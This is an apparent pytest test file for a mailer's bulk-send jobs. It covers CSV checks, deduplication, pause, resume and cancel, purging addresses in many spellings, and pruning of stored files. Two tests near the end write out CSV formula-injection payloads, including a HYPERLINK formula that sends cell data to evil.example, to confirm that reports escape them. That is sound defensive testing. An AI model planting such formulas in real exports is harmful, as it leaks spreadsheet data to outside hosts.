"""Bulk sends: checked first, each row accepted once, resumed, stopped; on both databases."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterable
from dataclasses import replace
from typing import Any

import pytest
import sqlalchemy as sa
from flask import Flask

from mailer import bulk, bulk_steps, jobs
from mailer.addresses import parse
from mailer.bulk import Upload
from mailer.dev.catcher import Catcher
from mailer.drafting import Request
from mailer.errors import IdempotencyConflict, InvalidEmail, NotFound, Refused, UnreadableFile
from mailer.ledger import Filters
from mailer.ledger.jobs import Lost
from mailer.ledger.record import uuid7
from mailer.models import BulkPart, BulkRow, Delivery, Email, Job
from mailer.recipients import Part
from mailer.state import State, of

from .conftest import AppFactory
from .plans import plans, prefer_indexes

_DAY = 86_400.0


@pytest.fixture
def app(make_app: AppFactory, catcher: Catcher, database_url: str) -> Flask:
    """The service; a job is run by the test, what it accepts is sent within it."""
    return make_app(MAIL_PORT=catcher.smtp_port, MAILER_DATABASE_URL=database_url)


@pytest.fixture
def state(app: Flask, monkeypatch: pytest.MonkeyPatch) -> State:
    found = of(app)
    monkeypatch.setattr(found.jobs_bell, "ring", lambda *of_what: False)
    return found


def create(
    state: State, text: str, *, job_id: str = "", shared: dict[str, Any] | None = None, **more: Any
) -> str:
    request = Request(**(shared or {"subject": "News", "text": "Hello."}))
    upload = Upload("people.csv", [text.encode()], is_csv=not text.startswith("{"))
    job_id = job_id or str(uuid.uuid4())
    with state.app.app_context():
        bulk.create(state, job_id, request, upload, actor="ann", **more)
    return job_id


def run(state: State, job_id: str, tell: Any = lambda told: None) -> Any:
    with state.app.app_context():
        return jobs.run(state, job_id, tell)


def addresses(numbers: Iterable[int]) -> str:
    return "email\n" + "".join(f"p{number}@shop.example\n" for number in numbers)


def report(state: State, job_id: str) -> list[dict[str, str]]:
    written = io.StringIO()
    csv.writer(written).writerows(bulk.report(state, job_id))
    written.seek(0)
    return list(csv.DictReader(written))


def count(state: State, column: Any) -> int:
    with state.database.read() as connection:
        return connection.execute(sa.select(sa.func.count(column))).scalar_one()


def test_the_whole_file_is_checked_before_anything_is_sent(state: State, catcher: Catcher) -> None:
    state.ledger.suppress(["gone@shop.example"], origin="bounce", words="550 5.1.1 No such user")
    job_id = create(
        state,
        "email,name,start_url,locale\n"
        "ann@shop.example,Ann,https://a.example,de\n"
        "not an address,x,https://a.example,\n"
        "ben@shop.example,Ben,https://a.example,no locale\n"
        "ANN@shop.example,Ann,https://a.example,\n"
        "gone@shop.example,,https://a.example,\n"
        "cid@shop.example\n"
        "dan@shop.example,Dan,https://a.example,\n",
        shared={"template": "welcome"},
    )
    job = run(state, job_id)
    assert job.status == "checked"
    assert job.found == {"phase": "sending", "rows": 7, "bad": 3, "duplicate": 1, "suppressed": 1}
    assert (job.done, job.total, count(state, Email.id)) == (0, 2, 0)
    problems = state.ledger.left_out(job_id, 10)
    assert [(one.line, one.left_out) for one in problems] == [
        (3, "bad"), (4, "bad"), (5, "duplicate"), (6, "suppressed"), (7, "bad"),
    ]  # fmt: skip
    words = {one.line: one.reason for one in problems}
    assert words[3].startswith("to: expected one address")
    assert words[4].startswith("locale: expected a locale such as de-AT")
    assert words[5] == "the address of line 2 again"
    assert words[6].startswith("bounced on")
    assert words[7] == "expected 4 columns, got 1"
    with state.app.app_context():
        previews = bulk.previews(state, job)
    assert [one.recipient for one in previews] == ["ann@shop.example", "dan@shop.example"]
    assert previews[0].content is not None
    assert "https://a.example" in (previews[0].content.html or "")


@pytest.mark.parametrize(
    ("row", "words"),
    [
        ("nobody,X", "got 'nobody' with the name 'X': An email address must have an @-sign."),
        ("nobody,", "got 'nobody': An email address must have an @-sign."),
        (f"nobody,{'X' * 70}", f"got 'nobody' with the name '{'X' * 56}...: An email"),
        ("ann@shop.example,A\u202en", "got 'ann@shop.example' with the name 'A\\u202en': bidir"),
    ],
)
def test_a_bad_address_is_said_as_the_file_has_it(state: State, row: str, words: str) -> None:
    job_id = create(state, f"email,name\n{row}\n")
    run(state, job_id)
    (problem,) = state.ledger.left_out(job_id, 5)
    assert words in problem.reason


def test_bad_rows_stop_it_unless_they_are_to_be_skipped(state: State, catcher: Catcher) -> None:
    job_id = create(state, addresses([1]) + "nobody\n", confirm=True)
    assert run(state, job_id).status == "checked"
    with pytest.raises(Refused, match="1 row is bad: mend the file"):
        bulk.start(state, job_id, actor="ann")
    assert bulk.start(state, job_id, skip_bad=True, actor="ann")
    job = run(state, job_id)
    assert (job.status, job.changed) == ("done", 1)
    assert not bulk.start(state, job_id, actor="ann")
    assert [(row["line"], row["state"]) for row in report(state, job_id)] == [
        ("2", "sent"),
        ("3", "left out: bad"),
    ]


def test_it_goes_on_at_once_when_asked_so(state: State, catcher: Catcher) -> None:
    told: list[dict[str, Any]] = []
    job = run(state, create(state, addresses(range(450)), confirm=True), told.append)
    assert (job.status, job.done, job.changed) == ("done", 450, 450)
    assert [one["current"] for one in told] == [0, 200, 400, 450]
    with state.database.read() as connection:
        lanes = connection.execute(sa.select(Delivery.lane, sa.func.count()).group_by("lane"))
        assert [tuple(row) for row in lanes] == [("bulk", 450)]
        assert count(state, BulkPart.file_id) == 0
    assert len({message.recipients[0] for message in catcher.messages()}) == 450


def test_its_emails_tell_of_which_bulk_send_they_are_and_whose(state: State) -> None:
    job_id = create(state, addresses([1]), confirm=True)
    run(state, job_id)
    with state.database.read() as connection:
        accepted_by = connection.execute(sa.select(Email.accepted_by)).scalar_one()
    actor = state.ledger.job(job_id).actor
    assert accepted_by == f"bulk send {job_id} of {actor}"


def test_variables_names_and_locales_are_the_rows_own(state: State, catcher: Catcher) -> None:
    rows = '{"to": "a@shop.example", "name": "Ann", "start_url": "https://a.example/ann"}\n'
    job_id = create(
        state, rows, shared={"template": "welcome", "tags": {"kind": "w"}}, confirm=True
    )
    assert run(state, job_id).status == "done"
    with state.database.read() as connection:
        email = connection.execute(sa.select(Email.__table__)).one()
    assert email.addresses["to"] == [["Ann", "a@shop.example"]]
    assert email.tags == {"kind": "w"}


def test_what_is_the_same_for_all_is_refused_at_once(state: State) -> None:
    with pytest.raises(InvalidEmail, match="template: no email template is called 'x'"):
        create(state, addresses([1]), shared={"template": "x"})
    with pytest.raises(UnreadableFile, match="expected at least one recipient, got none"):
        create(state, "email\n\n")
    with pytest.raises(UnreadableFile, match="got an empty file"):
        create(state, "")
    assert count(state, BulkPart.file_id) == count(state, Job.id) == 0


def test_a_column_that_no_row_has_is_said_once_of_the_file(
    state: State, catcher: Catcher, monkeypatch: pytest.MonkeyPatch
) -> None:
    shared = {"template": "welcome"}
    needs = "line 1: expected a column start_url, which template 'welcome' needs, got "
    for columns in ("email", "email,start", "email,locale,name"):
        with pytest.raises(UnreadableFile) as raised:
            create(state, f"{columns}\n", shared=shared)
        assert str(raised.value) == needs + columns.replace(",", ", ")
    assert count(state, BulkPart.file_id) == count(state, Job.id) == 0
    monkeypatch.setitem(state.loaders, "welcome", lambda given: {})
    monkeypatch.setitem(state.needs, "welcome", ["user_id", "plan"])
    with pytest.raises(UnreadableFile, match="expected columns plan, user_id, which template"):
        create(state, "email\nann@shop.example\n", shared=shared)


def test_variables_that_some_rows_may_have_are_looked_for_row_by_row(
    state: State, monkeypatch: pytest.MonkeyPatch
) -> None:
    def needed(name: str, locale: str | None = None) -> frozenset[str]:
        return frozenset({"start_url", *(() if locale == "de" else ("plan",))})

    welcome = replace(state.renderer.template("welcome"), locales=("de",))
    monkeypatch.setattr(state.renderer, "template", lambda name: welcome)
    monkeypatch.setattr(state.renderer, "required", needed)
    text = (
        "email,locale,start_url\n"
        "ann@shop.example,de,https://a.example\n"
        "ben@shop.example,,https://a.example\n"
    )
    shared = {"template": "welcome"}
    lines = '{"to": "ann@shop.example"}\n{"to": "ben@shop.example", "start_url": "x", "plan": 1}\n'
    found = [run(state, create(state, one, shared=shared)) for one in (text, lines)]
    assert [(job.status, job.total, job.found["bad"]) for job in found] == [("checked", 1, 1)] * 2
    with pytest.raises(UnreadableFile, match="expected a column plan, which"):
        create(state, text.replace("locale", "code"), shared=shared)


def test_one_id_is_one_bulk_send(state: State, catcher: Catcher) -> None:
    job_id = create(state, addresses(range(3)), confirm=True)
    create(state, addresses(range(3)), job_id=job_id, confirm=True)
    assert count(state, BulkPart.file_id) == 1
    with pytest.raises(IdempotencyConflict, match=f"there is a bulk send {job_id}"):
        create(state, addresses(range(4)), job_id=job_id, confirm=True)
    assert run(state, job_id).changed == 3
    assert run(state, job_id) is None
    create(state, addresses(range(3)), job_id=job_id, confirm=True)
    assert run(state, job_id) is None
    assert count(state, Email.id) == 3
    assert count(state, BulkPart.file_id) == 0


def test_two_uploads_at_once_under_one_id_are_one_and_a_conflict(state: State) -> None:
    job_id = str(uuid.uuid4())

    def at_once() -> Iterable[bytes]:
        yield addresses(range(3)).encode()
        create(state, addresses(range(4)), job_id=job_id)

    request = Request(subject="News", text="Hello.")
    upload = Upload("people.csv", at_once(), is_csv=True)
    with state.app.app_context(), pytest.raises(IdempotencyConflict):
        bulk.create(state, job_id, request, upload, actor="ben")
    assert state.ledger.job(job_id).total == 5
    assert count(state, BulkPart.file_id) == 1


def test_what_is_unsent_is_cancelled_by_one_job(state: State, catcher: Catcher) -> None:
    job_id = create(state, addresses(range(3)), confirm=True)
    run(state, job_id)
    assert [bulk.cancel(state, job_id, unsent=True, actor="ann") for _ in range(2)] == [True, False]
    (cancels,), _ = state.ledger.jobs(5, kind="bulk_cancel")
    with state.database.begin() as connection:
        connection.execute(
            sa.update(Job).where(Job.id == cancels.id).values(status="failed", ended_at=1.0)
        )
    assert bulk.cancel(state, job_id, unsent=True, actor="ann")
    assert run(state, cancels.id).status == "done"


def test_a_step_that_breaks_off_mails_nobody_twice(
    state: State, catcher: Catcher, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bulk_steps, "ACCEPTED_AT_ONCE", 10)
    job_id = create(state, addresses(range(35)))
    assert run(state, job_id).status == "checked"
    assert bulk.start(state, job_id, actor="ann")
    job = state.ledger.claim_job(job_id, "first")
    assert job is not None
    state.ledger.step_job(job_id, "first", bulk_steps.prepare(state, job))
    apply = bulk_steps.prepare(state, state.ledger.job(job_id))

    def breaks_off(connection: sa.Connection) -> Any:
        apply(connection)
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        state.ledger.step_job(job_id, "first", breaks_off)
    assert count(state, Email.id) == 10
    with state.database.begin() as connection:
        connection.execute(sa.update(Job).values(lease_until=0.0))
    job = run(state, job_id)
    assert (job.status, job.changed) == ("done", 35)
    with state.database.read() as connection:
        ids = set(connection.scalars(sa.select(BulkRow.email_id)))
        assert ids == set(connection.scalars(sa.select(Email.id)))
        recipients = list(connection.scalars(sa.select(Delivery.recipient)))
    assert len(set(recipients)) == len(recipients) == 35


def test_it_is_paused_resumed_and_cancelled_with_what_is_queued(
    state: State, catcher: Catcher, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bulk_steps, "ACCEPTED_AT_ONCE", 10)
    monkeypatch.setattr(bulk_steps, "CANCELLED_AT_ONCE", 7)
    state.ledger.pause("bulk", actor="ann")
    job_id = create(state, addresses(range(50)), confirm=True)

    def pause_after_10(told: dict[str, Any]) -> None:
        if told["current"] == 10:
            bulk.pause(state, job_id, actor="ann")

    assert run(state, job_id, pause_after_10).status == "paused"
    assert run(state, job_id) is None
    assert bulk.resume(state, job_id, actor="ann")

    def cancel_after_30(told: dict[str, Any]) -> None:
        if told["current"] == 30:
            bulk.cancel(state, job_id, unsent=True, actor="ann")

    job = run(state, job_id, cancel_after_30)
    assert (job.status, job.changed, count(state, Email.id)) == ("stopped", 30, 30)
    assert count(state, BulkPart.file_id) == 0
    (cancels,), _ = state.ledger.jobs(5, kind="bulk_cancel")
    assert run(state, cancels.id).changed == 30
    states = [row["state"] for row in report(state, job_id)]
    assert states == ["cancelled"] * 30 + ["not accepted"] * 20
    assert not bulk.cancel(state, job_id, unsent=False, actor="ann")
    with pytest.raises(Refused, match="it was stopped, and cannot be started"):
        bulk.start(state, job_id, actor="ann")


def set_status(state: State, **statuses: str) -> None:
    with state.database.begin() as connection:
        for name, status in statuses.items():
            of_it = Delivery.recipient == f"{name}@shop.example"
            connection.execute(sa.update(Delivery).where(of_it).values(status=status))


def test_what_became_of_its_emails_is_counted_part_by_part(
    state: State, catcher: Catcher, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bulk, "COUNTED_AT_ONCE", 4)
    job_id = create(state, addresses(range(9)) + "nobody\n", skip_bad=True, confirm=True)
    assert bulk.became(state, state.ledger.job(job_id)) == ({}, 0, True)
    job = run(state, job_id)
    set_status(state, p1="failed", p3="queued", p8="unknown")
    with state.database.begin() as connection:
        gone = sa.select(Delivery.email_id).where(Delivery.recipient == "p7@shop.example")
        connection.execute(sa.delete(Email).where(Email.id == gone.scalar_subquery()))

    parts = [bulk.became(state, job, after=after) for after in (0, 4, 8)]

    assert parts == [
        ({"sent": 2, "failed": 1}, 4, False),
        ({"sent": 3, "queued": 1}, 8, False),
        ({"deleted": 1, "unknown": 1}, 11, True),
    ]
    assert bulk.became(state, job, after=2**63 - 1) == ({}, 11, True)


def test_its_emails_are_found_and_retried_apart_from_all_others(
    state: State, catcher: Catcher
) -> None:
    earlier = run(state, create(state, addresses(range(3)), confirm=True)).id
    asked = run(state, create(state, "email\nP0@Shop.example\np1@shop.example\n", confirm=True)).id
    later = run(state, create(state, addresses(range(4)), confirm=True)).id
    with state.database.begin() as connection:
        connection.execute(sa.update(Delivery).values(status="failed"))

    def found(job_id: str, **more: Any) -> list[str]:
        filters = Filters(bulk=job_id, **more)
        rows = state.ledger.search(filters, 50).rows
        assert [row.delivery_id for row in state.ledger.list(filters, None)] == [
            row.delivery_id for row in rows
        ]
        return [row.recipient.partition("@")[0] for row in rows]

    assert found(earlier) == found(earlier, statuses={"failed"}) == ["p2", "p1", "p0"]
    assert found(asked) == ["p1", "P0"]
    assert found(later, statuses={"queued"}) == found("nobody") == []
    retried = state.ledger.retry(Filters(bulk=asked, statuses={"failed"}), actor="ann")
    assert {one.recipient for one in retried} == {"P0@shop.example", "p1@shop.example"}
    assert found(asked, statuses={"queued"}) == ["p1", "P0"]
    assert state.ledger.acts(1)[0][0].about == f"state=failed bulk={asked}"


@pytest.mark.parametrize("address", ["\u00c4gnes@shop.example", "\u0130pek@shop.example"])
def test_its_emails_are_found_whatever_letters_an_address_begins_with(
    state: State, catcher: Catcher, address: str
) -> None:
    job = run(state, create(state, f"email\n{address}\n", confirm=True))
    with state.database.begin() as connection:
        connection.execute(sa.update(Delivery).values(status="failed"))
    filters = Filters(bulk=job.id, statuses={"failed"})
    assert [row.recipient for row in state.ledger.search(filters, 50).rows] == [address]
    assert [one.recipient for one in state.ledger.retry(filters, actor="ann")] == [address]


def test_no_table_is_read_as_a_whole_for_what_became_of_its_emails(
    state: State, catcher: Catcher
) -> None:
    job = run(state, create(state, addresses(range(3)), confirm=True))
    prefer_indexes(state.database)
    with plans(state.database) as found:
        bulk.became(state, job)
        state.ledger.search(Filters(bulk=job.id), 50)
        state.ledger.search(Filters(bulk=job.id, statuses={"failed"}), 50)

    assert not [plan for plan in found if "SCAN mailer_" in plan or "Seq Scan on mailer_" in plan]


def test_one_that_is_being_checked_cannot_be_started(state: State) -> None:
    job_id = create(state, addresses([1]))
    with pytest.raises(Refused, match="still being checked"):
        bulk.start(state, job_id, actor="ann")
    with pytest.raises(NotFound):
        bulk.start(state, str(uuid.uuid4()), actor="ann")


def test_a_row_that_turned_bad_since_is_left_out(
    state: State, catcher: Catcher, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(state.config, "MAILER_ALLOW_TEST_DOMAINS", True)
    job_id = create(state, addresses(range(3)) + "p@localhost\n")
    run(state, job_id)
    bulk.start(state, job_id, actor="ann")
    monkeypatch.setitem(state.config, "MAILER_ALLOW_TEST_DOMAINS", False)
    job = run(state, job_id)
    assert (job.status, job.done, job.total, job.changed) == ("done", 3, 3, 3)
    assert job.found["bad"] == 1
    assert report(state, job_id)[3]["words"].startswith("to: expected one address")


@pytest.mark.parametrize("phase", ["checking", "sending"])
def test_what_turned_wrong_with_all_of_them_waits_to_be_mended(
    state: State, catcher: Catcher, monkeypatch: pytest.MonkeyPatch, phase: str
) -> None:
    job_id = create(state, addresses(range(3)))
    if phase == "sending":
        run(state, job_id)
        bulk.start(state, job_id, actor="ann")
    with monkeypatch.context() as patch:
        patch.setitem(state.config, "MAIL_DEFAULT_SENDER", None)
        job = run(state, job_id)
    words = "sender: expected one, because MAIL_DEFAULT_SENDER is not set"
    assert (job.status, job.words, job.found["bad"]) == ("paused", words, 0)
    assert bulk.resume(state, job_id, actor="ann")
    assert state.ledger.job(job_id).words is None
    job = run(state, job_id)
    assert (job.status, job.found["bad"]) == (
        ("checked", 0) if phase == "checking" else ("done", 0)
    )
    assert len(catcher.messages()) == job.changed == (0 if phase == "checking" else 3)


@pytest.mark.parametrize("phase", ["checking", "sending"])
def test_a_template_that_needs_another_column_by_now_is_no_fault_of_the_rows(
    state: State, catcher: Catcher, monkeypatch: pytest.MonkeyPatch, phase: str
) -> None:
    csv_lines = "email,start_url\n" + "".join(f"p{n}@shop.example,x\n" for n in range(3))
    json_lines = (
        '{"to": "ann@shop.example", "start_url": "x"}\n'
        '{"to": "ben@shop.example", "start_url": "x", "plan": "y"}\n'
    )
    of_csv, of_json = (
        create(state, text, shared={"template": "welcome"}) for text in (csv_lines, json_lines)
    )
    if phase == "sending":
        for job_id in (of_csv, of_json):
            run(state, job_id)
            bulk.start(state, job_id, actor="ann")
    with monkeypatch.context() as patch:
        needs = frozenset({"start_url", "plan"})
        patch.setattr(state.renderer, "required", lambda name, locale=None: needs)
        job, other = run(state, of_csv), run(state, of_json)
    words = "expected a column plan, which template 'welcome' needs, got email, start_url"
    assert (job.status, job.words, job.found["bad"], job.changed) == ("paused", words, 0, 0)
    assert (other.status, other.found["bad"]) == (("checked" if phase == "checking" else "done", 1))
    assert bulk.resume(state, of_csv, actor="ann")
    assert run(state, of_csv).found["bad"] == 0


def test_one_that_failed_by_a_bug_is_resumed_or_cancelled(
    state: State, catcher: Catcher, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fails(*of_what: Any) -> Any:
        raise ZeroDivisionError

    mended, ended = (create(state, addresses(range(3)), confirm=True) for _ in range(2))
    with monkeypatch.context() as patch:
        patch.setattr(bulk_steps, "drafted", fails)
        for job_id in (mended, ended):
            with pytest.raises(ZeroDivisionError):
                run(state, job_id)
            assert state.ledger.job(job_id).status == "failed"
    assert bulk.resume(state, mended, actor="ann")
    job = run(state, mended)
    assert (job.status, job.words, job.changed) == ("done", None, 3)
    assert bulk.cancel(state, ended, unsent=False, actor="ann")
    assert not bulk.resume(state, ended, actor="ann")


def test_a_key_holds_for_each_row(state: State) -> None:
    job_id = create(state, addresses([1]) + "b@other.example\n", only_to=["*@shop.example"])
    run(state, job_id)
    (problem,) = state.ledger.left_out(job_id, 5)
    assert problem.reason == "the API key may not send to b@other.example"


def test_a_report_holds_no_formula(state: State, catcher: Catcher) -> None:
    catcher.script("rcpt", "550 5.7.1 no", address="*")
    job_id = create(state, "email\n=1+1|x@shop.example\nann@shop.example\n", confirm=True)
    run(state, job_id)
    rows = report(state, job_id)
    assert [row["address"] for row in rows] == ["'=1+1|x@shop.example", "ann@shop.example"]
    assert [row["state"] for row in rows] == ["failed", "failed"]


@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_no_beginning_of_a_word_is_taken_for_a_formula(
    state: State, catcher: Catcher, beginning: str
) -> None:
    formula = f'{beginning}HYPERLINK("http://evil.example?x="&A1,"x")'
    job_id = create(state, "email\nann@shop.example\n", confirm=True)
    run(state, job_id)
    with state.database.begin() as connection:  # where one line was not made of it
        connection.execute(sa.update(BulkRow).values(left_out="bad", reason=formula))
        connection.execute(sa.update(Delivery).values(reason=formula))
    (row,) = csv.DictReader(io.StringIO("".join(bulk.written(bulk.report(state, job_id)))))
    assert row["words"] == f"'{formula}"


def test_a_person_who_is_purged_is_not_mailed(state: State, catcher: Catcher) -> None:
    text = addresses(range(3))
    checked = create(state, text)
    run(state, checked)
    state.ledger.purge("p1@shop.example", actor="ann")
    bulk.start(state, checked, actor="ann")
    unchecked = create(state, text.replace("p2", "P1"))
    state.ledger.purge("p1@shop.example", actor="ann")
    assert (run(state, checked).changed, run(state, unchecked).found["rows"]) == (2, 1)
    with state.database.read() as connection:
        assert "p1@shop.example" not in set(connection.scalars(sa.select(BulkRow.address)))


def test_a_purge_of_one_person_costs_no_other_an_email(state: State, catcher: Catcher) -> None:
    others = ["joann@shop.example", "ann@shop.example.org", "bob@shop.example"]
    rows = [
        '"a\nb",ann@shop.example',
        *[f"x,{one}" for one in others],
        'c,"Ann <ANN@shop.example>"',
        "d",
        "ann@shop.example",
    ]
    text = "start_url,email\n" + "\n".join(rows)
    shared = {"template": "welcome"}
    checked, unchecked = (create(state, text, shared=shared, skip_bad=True) for _ in range(2))
    run(state, checked)
    state.ledger.purge("ann@shop.example", actor="ann")
    job = state.ledger.job(checked)
    assert job.total == 3
    assert job.found == {"phase": "sending", "rows": 5, "bad": 2, "duplicate": 0, "suppressed": 0}
    with state.database.read() as connection:
        files = connection.scalars(sa.select(BulkPart.data))
        assert set(files) == {
            b"start_url,email\n\n\n" + "".join(f"x,{one}\n" for one in others).encode() + b"\nd\n\n"
        }
    run(state, unchecked)
    for job_id in (checked, unchecked):
        bulk.start(state, job_id, actor="ann")
        job = run(state, job_id)
        assert (job.status, job.done, job.total, job.changed) == ("done", 3, 3, 3)
        mailed = [row["address"] for row in report(state, job_id) if row["email_id"]]
        assert mailed == others


def test_a_person_is_purged_from_json_however_it_is_written(state: State) -> None:
    job_id = create(
        state,
        '{"email": "ann\\u0040shop.example"}\n{"to": 7, "x": "ann@shop.example"}\n'
        '{"to": "bob@shop.example"}\n',
    )
    state.ledger.purge("Ann@shop.example", actor="ann")
    with state.database.read() as connection:
        assert connection.scalar(sa.select(BulkPart.data)) == b'\n\n{"to": "bob@shop.example"}\n'
    assert run(state, job_id).found["rows"] == 1


SPELLINGS = [
    ("ann@B\u00dcCHER.example", "ann@b\u00fccher.example"),
    ("ann@bu\u0308cher.example", "ann@b\u00fccher.example"),
    ("ann@XN--BCHER-KVA.example", "ann@b\u00fccher.example"),
    ("ann@xn--bcher-kva.b\u00fccher.example", "ann@b\u00fccher.b\u00fccher.example"),
    ("ann@b\u00fccher\u3002example", "ann@b\u00fccher.example"),
    ("ann@\uff42\u00fccher.example", "ann@b\u00fccher.example"),
    ("ann@stra\u00dfe.example", "ann@stra\u00dfe.example"),
    ("ann@\u03b2\u03cc\u03bb\u03bf\u03c2.example", "ann@\u03b2\u03cc\u03bb\u03bf\u03c2.example"),
    ("A\u0308NN@shop.example", "\u00e4nn@shop.example"),
    ("Ann <ann@sho\u00adp.example>", "ann@shop.example"),
    ("o'neil@shop.example", "O'Neil@shop.example"),
]
"""How a file has an address, and how it is told to be purged."""


def purge(state: State, address: str) -> None:
    """Purge an address as ``mailer purge`` does."""
    state.ledger.purge(parse(address).email, actor="ann")


def file_and_reasons(state: State) -> tuple[str, list[str | None]]:
    with state.database.read() as connection:
        data = b"".join(connection.scalars(sa.select(BulkPart.data)))
        return data.decode(), list(
            connection.scalars(sa.select(BulkRow.reason).order_by(BulkRow.line))
        )


@pytest.mark.parametrize(("written", "told"), SPELLINGS)
def test_a_person_who_is_purged_is_mailed_by_no_spelling_of_the_address(
    state: State, catcher: Catcher, written: str, told: str
) -> None:
    others = "ann@other.example\njoann@shop.example\nann@b\u00fccher.example.org\n"
    unchecked = create(state, f"email\n{written}\n{others}")
    purge(state, told)
    assert file_and_reasons(state)[0] == f"email\n\n{others}"
    run(state, unchecked)
    bulk.start(state, unchecked, actor="ann")
    assert run(state, unchecked).changed == len(catcher.messages()) == 3


@pytest.mark.parametrize(
    "row",
    [
        "ann@shop.example (Ann)",
        "ann@SHOP.example x",
        '"""ann""@shop.example"',
        "mailto:ann@shop.example",
        "ann\uff20shop.example",
        "ann@shop.example,one too many",
        "\u0001ann@shop.example",
        '"ann@shop.example, bob@shop.example"',
        "ann@shop..example",
    ],
)
def test_a_bad_row_and_its_reason_name_nobody_who_was_purged(state: State, row: str) -> None:
    kept = "ann@other.example x\njoann@shop.example x\nbob@shop.example\n"
    run(state, create(state, f"email\n{row}\n{kept}"))
    assert state.ledger.jobs(1)[0][0].found["bad"] == 3
    purge(state, "ann@shop.example")
    file, (reason, *others) = file_and_reasons(state)
    assert file == f"email\n\n{kept}"
    assert reason in {"erased", "expected 1 columns, got 2"}
    assert "'ann@other.example x'" in (others[0] or "")
    assert "'joann@shop.example x'" in (others[1] or "")


@pytest.mark.parametrize("row", ["ann@B\u00dcCHER.example x", "ann@bu\u0308cher.example x"])
def test_a_reason_names_nobody_who_was_purged_in_another_spelling(state: State, row: str) -> None:
    run(state, create(state, f"email\n{row}\n"))
    purge(state, "ann@b\u00fccher.example")
    assert file_and_reasons(state) == ("email\n\n", ["erased"])


def test_a_step_that_was_prepared_before_a_purge_is_not_done(
    state: State, catcher: Catcher
) -> None:
    job_id = create(state, addresses(range(3)), confirm=True)
    job = state.ledger.claim_job(job_id, "first")
    assert job is not None
    apply = bulk_steps.prepare(state, job)
    state.ledger.purge("p1@shop.example", actor="ann")
    with pytest.raises(Lost):
        state.ledger.step_job(job_id, "first", apply)
    assert state.ledger.sweep().jobs_due == [job_id]
    assert run(state, job_id).changed == 2
    mailed = [message.recipients for message in catcher.messages()]
    assert mailed == [("p0@shop.example",), ("p2@shop.example",)]


def test_old_sends_and_files_that_broke_off_are_deleted(
    state: State, catcher: Catcher, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken() -> Iterable[bytes]:
        yield addresses(range(40_000)).encode()
        raise ConnectionError

    with pytest.raises(ConnectionError):
        bulk.create(
            state, "x", Request(subject="s", text="t"), Upload("", broken(), True), actor="a"
        )
    assert count(state, BulkPart.file_id) == 0
    job_id, waits = create(state, addresses(range(3)), confirm=True), create(state, addresses([1]))
    run(state, job_id)
    with state.database.begin() as connection:
        connection.execute(
            sa.update(Job)
            .where(Job.ended_at.is_not(None))
            .values(ended_at=sa.type_coerce(Job.ended_at, sa.Double) - 100)
        )
    state.ledger.add_bulk_part(uuid7(), Part(1, 1, b"email"))
    monkeypatch.setattr("mailer.ledger.bulk._UPLOAD_SECONDS", 0.0)
    pruned = state.ledger.prune(keep_bodies_seconds=50, keep_seconds=50, for_seconds=5)
    assert pruned.rows == 3
    with pytest.raises(NotFound):
        state.ledger.job(job_id)
    assert run(state, waits).status == "checked"
    assert count(state, BulkPart.file_id) == 1


def files_of(state: State) -> set[str]:
    with state.database.read() as connection:
        files = set(connection.scalars(sa.select(BulkPart.file_id)))
        jobs_ = connection.execute(sa.select(Job.id, Job.details).where(Job.kind == bulk.KIND))
        return {job.id for job in jobs_ if job.details["file"] in files}


def test_what_rests_or_failed_keeps_its_file_for_some_days(
    state: State, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fails(*of_what: Any) -> Any:
        raise ZeroDivisionError

    monkeypatch.setattr("mailer.ledger.bulk._UPLOAD_SECONDS", 0.0)
    checked, paused, failed = ids = [create(state, addresses(range(3))) for _ in range(3)]
    run(state, checked)
    bulk.pause(state, paused, actor="ann")
    with monkeypatch.context() as patch, pytest.raises(ZeroDivisionError):
        patch.setattr(bulk_steps, "drafted", fails)
        run(state, failed)

    def prune() -> None:
        state.ledger.prune(keep_bodies_seconds=7 * _DAY, keep_seconds=90 * _DAY, for_seconds=5)

    def let_days_pass(days: int) -> None:
        with state.database.begin() as connection:
            for column in (Job.created_at, Job.lease_until, Job.ended_at):
                earlier = sa.type_coerce(column, sa.Double) - days * _DAY
                connection.execute(sa.update(Job).values({column: earlier}))

    let_days_pass(6)
    prune()
    assert files_of(state) == set(ids)
    let_days_pass(2)
    prune()
    assert files_of(state) == set()
    found = [state.ledger.job(job_id) for job_id in ids]
    assert [job.status for job in found] == ["stopped", "stopped", "failed"]
    assert found[0].words == "it rested for so long that its file was erased: send it anew"
    assert bulk.resume(state, failed, actor="ann")
    with pytest.raises(bulk_steps.Erased):
        run(state, failed)
    steering = str(uuid.uuid4())
    state.ledger.add_job(steering, "retry", {"ids": [], "below": 9}, actor="ann", total=0)
    run(state, steering)
    let_days_pass(91)
    prune()
    assert state.ledger.jobs(5) == ([], False)


def test_a_bulk_send_that_is_stopped_as_a_job_keeps_no_file(state: State) -> None:
    job_id = create(state, addresses(range(3)))
    assert jobs.ask(state, job_id, "stopped", actor="ann")
    assert files_of(state) == set()
